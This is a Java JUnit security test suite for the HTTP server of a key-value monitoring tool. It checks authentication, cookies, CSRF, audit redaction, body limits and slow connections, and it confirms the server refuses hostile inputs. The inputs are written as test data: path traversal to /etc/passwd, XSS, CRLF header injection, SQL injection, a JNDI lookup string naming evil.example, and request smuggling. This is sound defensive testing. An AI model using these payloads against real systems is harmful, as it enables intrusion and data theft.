package io.kvops.server.http;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.kvops.history.Event;
import io.kvops.server.security.AccessToken;
import io.kvops.server.security.FailedLogins;
import io.kvops.server.security.Gate;
import io.kvops.server.security.Role;
import io.kvops.server.testing.TestView;
import java.io.IOException;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.Socket;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Clock;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Every route, with every role, and with what somebody might send who means no good: nothing gets through, and no 5xx. */
class NothingGetsThroughTest {
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final HttpClient CLIENT =
            HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1).build();
    private static final AccessToken VIEWER = new AccessToken("vic", "viewer-0123456789abcdef", Role.VIEWER);
    private static final AccessToken OPERATOR = new AccessToken("olga", "operator-0123456789abcdef", Role.OPERATOR);
    private static final AccessToken ADMIN = new AccessToken("ada", "admin-0123456789abcdef", Role.ADMIN);
    private static final int MAX_BODY = 4_096;

    private static final TestView VIEW = new TestView();
    private static HttpDoor door;

    @BeforeAll
    static void open() throws IOException {
        door = open(HttpConfig.builder().maxConnections(100).maxConnectionsPerAddress(100));
    }

    private static HttpDoor open(HttpConfig.Builder config) throws IOException {
        HttpDoor opened = new HttpDoor(
                config.port(0)
                        .maxBodyBytes(MAX_BODY)
                        .tokens(List.of(VIEWER, OPERATOR, ADMIN))
                        .build(),
                VIEW,
                Clock.systemUTC());
        opened.start();
        return opened;
    }

    @AfterAll
    static void close() throws Exception {
        door.close();
        VIEW.close();
    }

    static List<Route> routes() {
        List<Route> routes = new ArrayList<>(HttpParts.routes(VIEW, new Audit(VIEW)));
        Gate gate = new Gate(List.of(), Clock.systemUTC());
        Entry entry = new Entry(gate, new FailedLogins(System::nanoTime));
        LoginLog logins = new LoginLog(new Audit(VIEW), null, Clock.systemUTC());
        routes.addAll(new SessionRoutes(gate, entry, logins, new Audit(VIEW)).routes());
        return routes;
    }

    @Test
    @DisplayName("each route: 401 without a token, 403 below its role, anything but these from its role on")
    void everyRoute_everyRole() throws Exception {
        List<Route> routes = routes();
        assertThat(routes).hasSizeGreaterThan(20);
        for (Route route : routes) {
            String request = route.method() + " " + route.path();
            if (route.role() == null) {
                assertThat(ask(route, null)).as(request).isNotIn(403, 500, 502, 504);
                continue;
            }
            assertThat(ask(route, null)).as(request + " without a token").isEqualTo(401);
            for (AccessToken token : List.of(VIEWER, OPERATOR, ADMIN)) {
                int status = ask(route, token);
                if (token.role().covers(route.role())) {
                    assertThat(status)
                            .as(request + " as " + token.name())
                            .isNotIn(401, 403)
                            .isLessThan(500);
                } else {
                    assertThat(status).as(request + " as " + token.name()).isEqualTo(403);
                }
            }
        }
        assertThat(send("GET", "/api/v1/stream", null, null)).isEqualTo(401);
    }

    private static int ask(Route route, AccessToken token) throws Exception {
        String type = route.takes().isEmpty() || route.takes().get(0).isEmpty()
                ? null
                : route.takes().get(0);
        return send(
                route.method(),
                route.path().replaceAll("\\{[a-z]+}", "1"),
                token == null ? null : token.secret(),
                type);
    }

    private static int send(String method, String path, String token, String type) throws Exception {
        HttpRequest.Builder request = request(path)
                .method(
                        method,
                        type == null
                                ? HttpRequest.BodyPublishers.noBody()
                                : HttpRequest.BodyPublishers.ofString(type.endsWith("json") ? "{}" : "a: 1\n"));
        if (token != null) {
            request.header("Authorization", "Bearer " + token);
        }
        if (type != null) {
            request.header("Content-Type", type);
        }
        HttpResponse<String> response = CLIENT.send(request.build(), HttpResponse.BodyHandlers.ofString());
        if (response.statusCode() >= 400) {
            assertThat(response.headers().firstValue("Content-Type"))
                    .as(method + " " + path + " answers " + response.statusCode())
                    .contains("application/problem+json");
            assertThat(JSON.readTree(response.body()).path("status").asInt()).isEqualTo(response.statusCode());
        }
        if (response.statusCode() == 401) {
            assertThat(response.headers().firstValue("WWW-Authenticate")).isPresent();
        }
        return response.statusCode();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "Bearer wrong-0123456789abcdef",
                "Bearer ",
                "Bearer viewer-0123456789abcde",
                "Basic dmljOnZpZXdlci0wMTIzNDU2Nzg5YWJjZGVm",
                "viewer-0123456789abcdef",
                "Bearer VIEWER-0123456789ABCDEF"
            })
    void wrongTokens_areNotTaken_norInTheAddress(String authorization) throws Exception {
        try (HttpDoor fresh = open(HttpConfig.builder())) {
            URI uri = URI.create("http://127.0.0.1:" + fresh.port() + "/api/v1/live");
            HttpRequest request = HttpRequest.newBuilder(uri)
                    .header("Authorization", authorization)
                    .build();
            assertThat(CLIENT.send(request, HttpResponse.BodyHandlers.ofString())
                            .statusCode())
                    .isEqualTo(401);
            assertThat(RawClient.status(RawClient.send(
                            fresh.port(),
                            "GET /api/v1/live?token=" + ADMIN.secret() + " HTTP/1.1\r\nHost: localhost\r\n\r\n")))
                    .isEqualTo(401);
        }
    }

    @Test
    void manyWrongTokens_areNotLookedAt_andTheAuditNamesNoSecret() throws Exception {
        try (HttpDoor fresh = open(HttpConfig.builder())) {
            int refused = 0;
            for (int i = 0; i < 30; i++) {
                String answer = RawClient.send(
                        fresh.port(),
                        "GET /metrics HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer guess-" + i + "\r\n\r\n");
                refused += RawClient.status(answer) == 429 ? 1 : 0;
            }
            assertThat(refused).isPositive();
            assertThat(fresh.stats().loginFailures()).isEqualTo(30);
            String right = "GET /metrics HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer " + VIEWER.secret();
            assertThat(RawClient.status(RawClient.send(fresh.port(), right + "\r\n\r\n")))
                    .as("who guesses is not told that it guessed right")
                    .isEqualTo(429);
        }
        await().untilAsserted(() -> assertThat(audit()).anySatisfy(event -> {
            assertThat(event.title()).isEqualTo("A login failed");
            assertThat(event.details()).contains("127.0.0.1");
        }));
        assertThat(audit()).noneMatch(event -> (event + "").contains("guess-"));
    }

    private static List<Event> audit() throws Exception {
        return VIEW.history().events(Set.of("audit"), 0, Long.MAX_VALUE / 2, 1_000);
    }

    @Test
    void browsers_logInWithACookie_thatScriptsCantRead_andOtherSitesCantUse() throws Exception {
        HttpResponse<String> login = post("/api/v1/login", "{\"token\":\"" + ADMIN.secret() + "\"}", Map.of());
        assertThat(login.statusCode()).isEqualTo(204);
        String set = login.headers().firstValue("Set-Cookie").orElseThrow();
        assertThat(set).contains("HttpOnly", "SameSite=Strict", "Path=/").doesNotContain(ADMIN.secret());
        String cookie = set.substring(0, set.indexOf(';'));

        HttpRequest read = request("/api/v1/session").header("Cookie", cookie).build();
        assertThat(CLIENT.send(read, HttpResponse.BodyHandlers.ofString()).body())
                .isEqualTo("{\"loginNeeded\":false,\"name\":\"ada\",\"role\":\"admin\"}");
        String own = "http://127.0.0.1:" + door.port();
        String path = "/api/v1/config/reload";
        assertThat(post(path, "", Map.of("Cookie", cookie)).statusCode()).isEqualTo(403);
        assertThat(post(path, "", Map.of("Cookie", cookie, "Origin", "https://evil.example"))
                        .statusCode())
                .isEqualTo(403);
        assertThat(post(path, "", Map.of("Cookie", cookie, "Origin", own, "Sec-Fetch-Site", "cross-site"))
                        .statusCode())
                .isEqualTo(403);
        assertThat(post(path, "", Map.of("Cookie", cookie, "Origin", own)).statusCode())
                .isEqualTo(200);

        assertThat(post("/api/v1/logout", "", Map.of("Cookie", cookie, "Origin", own))
                        .statusCode())
                .isEqualTo(204);
        assertThat(CLIENT.send(read, HttpResponse.BodyHandlers.ofString()).body())
                .contains("\"loginNeeded\":true");
    }

    @Test
    void withoutTokens_otherSitesCantChangeAnything() throws Exception {
        try (HttpDoor open = new HttpDoor(HttpConfig.builder().port(0).build(), VIEW, Clock.systemUTC())) {
            open.start();
            String post = "POST /api/v1/config/reload HTTP/1.1\r\nHost: localhost:" + open.port()
                    + "\r\nContent-Length: 0\r\n";
            assertThat(RawClient.status(RawClient.send(open.port(), post + "Origin: https://evil.example\r\n\r\n")))
                    .isEqualTo(403);
            assertThat(RawClient.status(RawClient.send(open.port(), post + "Sec-Fetch-Site: cross-site\r\n\r\n")))
                    .isEqualTo(403);
            assertThat(RawClient.status(
                            RawClient.send(open.port(), post + "Origin: http://localhost:" + open.port() + "\r\n\r\n")))
                    .isEqualTo(200);
        }
    }

    @Test
    void changes_areInTheAuditBeforeTheyHappen_withoutSecrets() throws Exception {
        HttpRequest patch = request("/api/v1/config")
                .header("Authorization", "Bearer " + ADMIN.secret())
                .header("Content-Type", "application/json")
                .method(
                        "PATCH",
                        HttpRequest.BodyPublishers.ofString(
                                "{\"ingest\":{\"token\":\"hush-hush\",\"maxConnections\":77}}"))
                .build();
        assertThat(CLIENT.send(patch, HttpResponse.BodyHandlers.ofString()).statusCode())
                .isEqualTo(200);

        HttpRequest read = request("/api/v1/audit?limit=1000")
                .header("Authorization", "Bearer " + ADMIN.secret())
                .build();
        String body = CLIENT.send(read, HttpResponse.BodyHandlers.ofString()).body();
        assertThat(body).doesNotContain("hush-hush").doesNotContain(ADMIN.secret());
        List<String> titles = new ArrayList<>();
        List<JsonNode> own = new ArrayList<>();
        for (JsonNode event : JSON.readTree(body).path("events")) {
            titles.add(event.path("title").asText());
            if (event.at("/details/ingest.maxConnections").asText().equals("77")) {
                own.add(event);
            }
        }
        assertThat(own).singleElement().satisfies(event -> {
            assertThat(event.path("title").asText()).isEqualTo("Changes the configuration");
            assertThat(event.path("who").asText()).isEqualTo("ada");
            assertThat(event.at("/details/remote").asText()).isEqualTo("127.0.0.1");
        });
        assertThat(titles).contains("Changes the configuration", "Changed the configuration");
    }

    @Test
    void configuration_isChangedOnlyAsItWasSeen() throws Exception {
        HttpRequest read = request("/api/v1/config")
                .header("Authorization", "Bearer " + ADMIN.secret())
                .build();
        String tag = CLIENT.send(read, HttpResponse.BodyHandlers.ofString())
                .headers()
                .firstValue("ETag")
                .orElseThrow();
        Map<String, String> headers = Map.of("Authorization", "Bearer " + ADMIN.secret(), "If-Match", tag);
        // as it is where the answer was compressed
        Map<String, String> weak = Map.of("Authorization", "Bearer " + ADMIN.secret(), "If-Match", "W/" + tag);

        assertThat(put("x: wrong\n", headers).statusCode()).isEqualTo(422);
        HttpResponse<String> done = put("x: 1\n", weak);
        assertThat(done.statusCode()).isEqualTo(200);
        assertThat(done.headers().firstValue("ETag")).isPresent().get().isNotEqualTo(tag);
        assertThat(put("x: 2\n", headers).statusCode()).isEqualTo(412);
    }

    @Test
    void oversized_andSlowBodies_areRefused() throws Exception {
        String head = "POST /api/v1/config/validate HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/yaml\r\n"
                + "Authorization: Bearer " + ADMIN.secret() + "\r\n";
        String large = "a".repeat(MAX_BODY + 1);
        assertThat(RawClient.status(
                        RawClient.send(door.port(), head + "Content-Length: " + large.length() + "\r\n\r\n" + large)))
                .isEqualTo(413);
        assertThat(RawClient.status(RawClient.send(door.port(), head + "Content-Length: 99999999999999\r\n\r\n")))
                .isEqualTo(413);
        assertThat(RawClient.status(RawClient.send(
                        door.port(),
                        head + "Transfer-Encoding: chunked\r\n\r\n" + Integer.toHexString(large.length()) + "\r\n"
                                + large)))
                .isEqualTo(413);
        assertThat(RawClient.status(RawClient.send(
                        door.port(), head + "Content-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n")))
                .isBetween(400, 499);
        try (HttpDoor hasty = open(HttpConfig.builder().idleTimeout(Duration.ofSeconds(1)))) {
            assertThat(RawClient.status(RawClient.send(hasty.port(), head + "Content-Length: 5\r\n\r\na")))
                    .isEqualTo(408);
        }
    }

    @Test
    @DisplayName("headers that drip in are cut off, and connections that wait make room for who asks")
    void slowAndIdleConnections_lockNobodyOut() throws Exception {
        HttpConfig.Builder few = HttpConfig.builder().maxConnections(5).maxConnectionsPerAddress(5);
        try (HttpDoor small = open(few)) {
            List<Socket> idle = new ArrayList<>();
            try {
                for (int i = 0; i < 5; i++) {
                    Socket socket = new Socket(InetAddress.getLoopbackAddress(), small.port());
                    socket.getOutputStream().write("GET /healthz HT".getBytes(StandardCharsets.US_ASCII));
                    idle.add(socket);
                }
                await().until(() -> small.stats().connections() == 5);
                assertThat(RawClient.status(
                                RawClient.send(small.port(), "GET /healthz HTTP/1.1\r\nHost: localhost\r\n\r\n")))
                        .isEqualTo(200);
                assertThat(small.stats().connectionsEvicted()).isPositive();
                small.apply(few.idleTimeout(Duration.ofSeconds(2)).build());
                OutputStream drip = idle.get(4).getOutputStream();
                await("the one that drips to be cut off")
                        .atMost(Duration.ofMinutes(1))
                        .until(() -> {
                            try {
                                drip.write('T');
                            } catch (IOException e) {
                                // that is what is waited for
                            }
                            return small.stats().connections() == 0;
                        });
                assertThat(small.stats().connectionsTimedOut()).isPositive();
            } finally {
                for (Socket socket : idle) {
                    socket.close();
                }
            }
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/../../etc/passwd",
                "/..%2f..%2f..%2fetc/passwd",
                "/%2e%2e/%2e%2e/etc/passwd",
                "/vendor/../../http/openapi.json",
                "/vendor/uplot/..\\..\\..\\http\\openapi.json",
                "//etc/passwd",
                "/./index.html",
                "/index.html/",
                "/index.html%00.js",
                "/app.js;a=b",
                "/API/V1/REPORT",
                "/api/v1//report",
                "/api/v1/config/versions/../../audit",
                "/api/v1/config/versions/%2e%2e",
                "/file:///etc/passwd",
                "/simplelogger.properties",
                "/io/kvops/server/web/index.html"
            })
    void pathsOutsideOfWhatThereIs_leadNowhere(String path) throws Exception {
        for (String token : List.of("", "Authorization: Bearer " + ADMIN.secret() + "\r\n")) {
            String answer =
                    RawClient.send(door.port(), "GET " + path + " HTTP/1.1\r\nHost: localhost\r\n" + token + "\r\n");
            assertThat(RawClient.status(answer)).as(path).isIn(400, 404);
            assertThat(answer).doesNotContain("root:").containsIgnoringCase("application/problem+json");
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>document.title='taken'</script>",
                "a\r\nSet-Cookie: taken=1\r\n\r\n<html>",
                "nul\u0000nul",
                "\u202egpj.exe",
                "\ud800 lone surrogate",
                "</script><!--",
                "\"},{\"x\":\"",
                "'; DROP TABLE ops; --",
                "${jndi:ldap://evil.example/a}"
            })
    void hostileKeys_areShownAsText(String key) throws Exception {
        VIEW.analyzer.start("redis", io.kvops.analyzer.OpType.GET, key).close();

        for (String path : List.of(
                "/api/v1/report",
                "/api/v1/report?format=html",
                "/api/v1/report?format=md",
                "/api/v1/live",
                "/api/v1/hotkeys",
                "/api/v1/patterns",
                "/api/v1/breakdown?by=service,pattern",
                "/api/v1/timeline?by=pattern",
                "/api/v1/compare?by=pattern",
                "/api/v1/slow?min=1ns",
                "/api/v1/flamegraph",
                "/api/v1/flamegraph?format=folded",
                "/metrics")) {
            HttpResponse<String> response = CLIENT.send(
                    request(path)
                            .header("Authorization", "Bearer " + VIEWER.secret())
                            .build(),
                    HttpResponse.BodyHandlers.ofString());
            assertThat(response.statusCode()).as(path).isEqualTo(200);
            assertThat(response.headers().map()).doesNotContainKey("set-cookie");
            String type = response.headers().firstValue("Content-Type").orElseThrow();
            if (type.startsWith(Answer.JSON)) {
                assertThat(JSON.readTree(response.body()).isObject()).isTrue();
            }
            if (type.startsWith("text/html")) {
                assertThat(response.body())
                        .doesNotContain("<script>document.title")
                        .doesNotContain("</script><!--")
                        .doesNotContain("\u0000")
                        .doesNotContain("\u202e");
            }
        }
    }

    @Test
    void hostileParameters_areRefusedOrText() throws Exception {
        for (String value : List.of(
                "a,a",
                "PT9223372036854775807S",
                "%00",
                "%ff",
                "%0d%0aX:1",
                "<script>",
                "'%20OR%201=1--",
                "%F0%28%8C%28",
                "../../x")) {
            for (String path : List.of(
                    "/api/v1/report?last=" + value,
                    "/api/v1/gauges?kind=" + value + "&name=" + value + "&subject=" + value,
                    "/api/v1/breakdown?by=" + value + "&store=" + value,
                    "/api/v1/breakdown?service=" + value + "&op=" + value + "&opClass=" + value,
                    "/api/v1/timeline?by=op&pattern=" + value + "&opClass=" + value,
                    "/api/v1/compare?endpoint=" + value + "&back=" + value,
                    "/api/v1/flamegraph?pattern=" + value,
                    "/api/v1/slow?instance=" + value + "&pattern=" + value,
                    "/api/v1/events?kind=" + value,
                    "/api/v1/events?cursor=" + value,
                    "/api/v1/report?" + value + "=1")) {
                String answer = RawClient.send(
                        door.port(),
                        "GET " + path + " HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer " + VIEWER.secret()
                                + "\r\n\r\n");
                assertThat(RawClient.status(answer)).as(path).isIn(200, 400);
                assertThat(answer).doesNotContain("\r\nX:1");
            }
        }
    }

    @Test
    void versionsThatAreNotSpoken_areRefused() throws Exception {
        for (String version : List.of("HTTP/9.9", "HTTp/1.1", "FOO/1.1", "HTTP/2.0", "HTTP/1.2", "HTTP/0.9")) {
            String answer = RawClient.send(door.port(), "GET / " + version + "\r\nHost: localhost\r\n\r\n");
            assertThat(RawClient.status(answer)).as(version + ": " + answer).isEqualTo(400);
        }
    }

    @Test
    @DisplayName("thousands of requests put together at random: no 5xx, and the door still stands")
    void randomRequests_neverMakeA5xx() throws Exception {
        long seed = Long.getLong("kvops.seed", System.nanoTime());
        Random random = new Random(seed);
        int times = Boolean.getBoolean("kvops.proof") ? 20_000 : 2_000;
        RequestMaker maker =
                new RequestMaker(random, routes(), List.of(VIEWER.secret(), OPERATOR.secret(), ADMIN.secret()));
        try (HttpDoor fresh = open(HttpConfig.builder())) {
            for (int i = 0; i < times; i++) {
                byte[] request = maker.next();
                String answer = RawClient.send(fresh.port(), request, 1_500);
                String text = new String(request, StandardCharsets.ISO_8859_1);
                assertThat(RawClient.status(answer))
                        .as(() -> "seed " + seed + ": " + text + "\n" + answer)
                        .isLessThan(500);
            }
            assertThat(RawClient.send(fresh.port(), "GET /healthz HTTP/1.1\r\nHost: localhost\r\n\r\n"))
                    .startsWith("HTTP/1.1 200 ");
            assertThat(fresh.stats().answers().get("2xx")).isGreaterThan(times / 50);
        }
    }

    private static HttpRequest.Builder request(String path) {
        return HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + door.port() + path))
                .timeout(Duration.ofSeconds(30));
    }

    private static HttpResponse<String> post(String path, String body, Map<String, String> headers) throws Exception {
        HttpRequest.Builder request = request(path)
                .POST(body.isEmpty() ? HttpRequest.BodyPublishers.noBody() : HttpRequest.BodyPublishers.ofString(body))
                .header("Content-Type", "application/json");
        headers.forEach(request::header);
        return CLIENT.send(request.build(), HttpResponse.BodyHandlers.ofString());
    }

    private static HttpResponse<String> put(String yaml, Map<String, String> headers) throws Exception {
        HttpRequest.Builder request = request("/api/v1/config")
                .PUT(HttpRequest.BodyPublishers.ofString(yaml))
                .header("Content-Type", "application/yaml");
        headers.forEach(request::header);
        return CLIENT.send(request.build(), HttpResponse.BodyHandlers.ofString());
    }
}
